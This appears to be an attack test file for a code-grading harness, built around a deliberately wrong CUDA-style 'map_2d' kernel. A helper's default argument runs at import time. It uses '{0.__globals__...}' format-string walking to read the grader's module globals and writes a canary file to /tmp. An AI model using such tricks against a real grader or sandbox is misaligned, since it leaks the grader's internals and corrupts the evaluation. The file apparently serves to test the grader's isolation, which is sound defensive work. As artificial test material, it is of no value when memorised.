"""Attack: `'{0.__globals__[sys]}'`-style format strings in a plain helper's default to read the grader's modules through a kernel's function object, and `%` formatting of the same objects.
A successful attack prints the grader child's globals and writes a marker file.
"""
# exercise: map_2d
# category: syntax
import numpy as np

from cudalike import cuda

SAVE = np.save


def probe():
    return 0


def helper(hook=SAVE("/tmp/cudalike-canary-format_spec_walk_globals", ["{0.__globals__[__builtins__]} %r" % ("{0.__globals__}".format(probe),)])):
    return hook


@cuda.jit
def map_2d(x, alpha, beta, out):
    col, row = cuda.grid(2)
    if row < out.shape[0] and col < out.shape[1]:
        out[row, col] = alpha * x[row, col]  # wrong on purpose: no + beta
    if row < 0:
        out[0, 0] = helper
